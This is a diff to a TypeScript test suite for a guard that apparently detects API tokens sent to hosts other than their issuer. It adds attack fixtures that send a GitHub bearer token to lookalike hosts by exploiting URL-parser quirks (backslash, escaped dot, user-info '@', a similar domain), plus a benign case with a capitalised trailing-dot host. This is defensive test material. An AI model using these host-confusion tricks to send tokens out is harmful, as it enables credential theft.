@@ -25,6 +25,12 @@ const attacks: readonly (readonly [string, Exchange])[] = [
   ['a GitHub token in a made-up header', session([creds], http('https://api.github.com/user', { 'X-Debug-Echo': github }))],
   ['a GitHub token with a second address beside it', session([creds], http('https://api.github.com/user', { Authorization: `Bearer ${github}` }, { callback: 'https://hooks.relay-inbox.net/r' }))],
   ['a Hugging Face token sent to a model mirror', session([hfToken], http('https://hf-mirror.models-fast.cn/api/whoami-v2', { Authorization: `Bearer ${hugging}` }))],
+  // Hosts a URL parser reads differently from how they look: a backslash ends the host (WHATWG reads it as
+  // `/` in an https URL), an escaped dot is a dot, a tab is dropped.
+  ['a GitHub token to a host whose GitHub part follows a backslash', session([creds], http('https://relay-inbox.net\\.api.github.com/user', { Authorization: `Bearer ${github}` }))],
+  ['a GitHub token to a host named like GitHub\'s with an escaped dot', session([creds], http('https://api.github.com%2erelay-inbox.net/user', { Authorization: `Bearer ${github}` }))],
+  ['a GitHub token to GitHub\'s name as a user part of another host', session([creds], http('https://api.github.com@relay-inbox.net/user', { Authorization: `Bearer ${github}` }))],
+  ['a GitHub token to a host ending in a GitHub-like label', session([creds], http('https://notgithub.com/user', { Authorization: `Bearer ${github}` }))],
   ['a GitHub token in a URL\'s user part to another host', session([creds], http(`https://${github}@git.code-vault.io/lee/app.git`, {}))],
 ];
 
@@ -33,6 +39,7 @@ const benign: readonly (readonly [string, Exchange])[] = [
   ['a GitHub token as `token` to raw.githubusercontent.com', session([creds], http('https://raw.githubusercontent.com/lee/private-app/main/README.md', { authorization: `token ${github}` }))],
   ['a GitLab token in PRIVATE-TOKEN to gitlab.com', session([creds], http('https://gitlab.com/api/v4/projects?membership=true', { 'PRIVATE-TOKEN': gitlab }))],
   ['a Hugging Face token to huggingface.co', session([hfToken], http('https://huggingface.co/api/whoami-v2', { Authorization: `Bearer ${hugging}` }))],
+  ['a GitHub token to api.github.com spelled in capitals with a trailing dot and its port', session([creds], http('https://API.GitHub.com.:443/user/repos', { Authorization: `Bearer ${github}` }))],
 ];
 
 describeExchanges('tokens sent to the service that issued them', guard, attacks, benign);
